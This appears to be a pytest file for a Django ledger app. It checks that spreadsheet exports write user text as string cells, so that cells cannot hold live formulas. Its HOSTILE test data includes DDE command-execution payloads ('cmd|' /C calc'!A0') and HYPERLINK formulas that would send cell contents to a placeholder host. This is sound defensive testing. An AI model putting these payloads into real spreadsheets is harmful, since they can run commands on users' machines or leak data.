"""Text the users typed stays text in every spreadsheet we write: never a formula, a link or a number.

A 进展情况 or a 责任人 that starts with =, +, - or @ (=HYPERLINK(...), =cmd|' /C calc'!A0) is written as a
string cell, so the leader's Excel runs nothing and a re-import of the unchanged file changes nothing.
"""

from __future__ import annotations

import datetime as dt
import io
from pathlib import Path

import pytest
from django.test import Client
from openpyxl import load_workbook

from tests.conftest import World
from tests.sheets.conftest import HEADERS, Importer, Ledger, edit, export, measure_state, row_of, summary
from zhenggai.ledger import services
from zhenggai.ledger.choices import MeasureStatus
from zhenggai.ledger.models import ProgressReport, Unit
from zhenggai.ledger.tally import rebuild_tallies

HOSTILE = {
    "=": '=HYPERLINK("http://example.invalid/?x="&A1,"点击查看")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def column(name: str) -> str:
    return "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[HEADERS.index(name)]


@pytest.mark.parametrize("prefix", list(HOSTILE))
def test_progress_and_person_starting_with_a_formula_sign_are_string_cells_and_come_back_unchanged(
    prefix: str, ledger: Ledger, tmp_path: Path, run_import: Importer
) -> None:
    text = HOSTILE[prefix]
    ledger.archive.responsible_person = text
    ledger.archive.save()
    services.report_progress(by=ledger.world.staff_a, measure=ledger.life, text=text, progress=60)
    path = export(ledger, tmp_path)

    sheet = load_workbook(path).active
    for code, header in ((ledger.life.code, "进展情况"), (ledger.archive.code, "责任人")):
        cell = sheet[f"{column(header)}{row_of(path, code)}"]
        assert cell.data_type == "s", (header, cell.data_type)
        assert cell.value == text

    state, reports = measure_state(), ProgressReport.objects.count()
    out, error = run_import(path, ledger.inspection, "leader_a")

    assert error is None, out
    assert summary(out)["错误"] == 0
    assert measure_state() == state
    assert ProgressReport.objects.count() == reports
    assert ProgressReport.objects.filter(measure=ledger.life).latest("id").text == text


def test_light_and_completion_date_columns_stand_before_the_code(ledger: Ledger, tmp_path: Path) -> None:
    ledger.life_2.deadline = dt.date(2020, 1, 31)  # long past: overdue
    ledger.life_2.save()
    ledger.archive_2.status = MeasureStatus.DONE
    ledger.archive_2.completed_date = dt.date(2024, 5, 20)
    ledger.archive_2.progress = 100
    ledger.archive_2.save()
    path = export(ledger, tmp_path)
    sheet = load_workbook(path).active

    assert HEADERS[-3:] == ["红黄灯", "完成日期", "编号"]
    assert sheet[f"{column('红黄灯')}{row_of(path, ledger.life_2.code)}"].value == "红灯"
    assert sheet[f"{column('红黄灯')}{row_of(path, ledger.life_2.code)}"].fill.fgColor.rgb.endswith("FFC7CE")
    done_row = row_of(path, ledger.archive_2.code)
    assert sheet[f"{column('红黄灯')}{done_row}"].value is None  # signed off: no light, as on the web
    assert sheet[f"{column('完成日期')}{done_row}"].value == dt.datetime(2024, 5, 20)
    assert sheet[f"{column('完成日期')}{done_row}"].number_format == 'yyyy"年"m"月"d"日"'
    assert sheet[f"{column('完成日期')}{row_of(path, ledger.life.code)}"].value is None


def test_light_and_completion_date_are_ignored_on_import(
    ledger: Ledger, tmp_path: Path, run_import: Importer
) -> None:
    path = export(ledger, tmp_path)
    row = row_of(path, ledger.life.code)
    edit(path, {(row, "红黄灯"): "绿灯", (row, "完成日期"): dt.datetime(2024, 1, 1)})
    state = measure_state()

    out, error = run_import(path, ledger.inspection, "leader_a")

    assert error is None, out
    assert summary(out)["错误"] == 0
    assert measure_state() == state


def test_overview_export_writes_unit_names_as_text(world: World, client: Client) -> None:
    name = '=HYPERLINK("http://example.invalid","文旅局")'
    Unit.objects.filter(pk=world.unit_a.pk).update(name=name)
    rebuild_tallies()
    client.force_login(world.supervisor)

    response = client.get("/overview.xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {cell.value: cell for (cell, *_) in sheet.iter_rows(min_row=2)}
    assert cells[name].data_type == "s"
    assert all(cell.data_type == "s" for cell in cells.values())
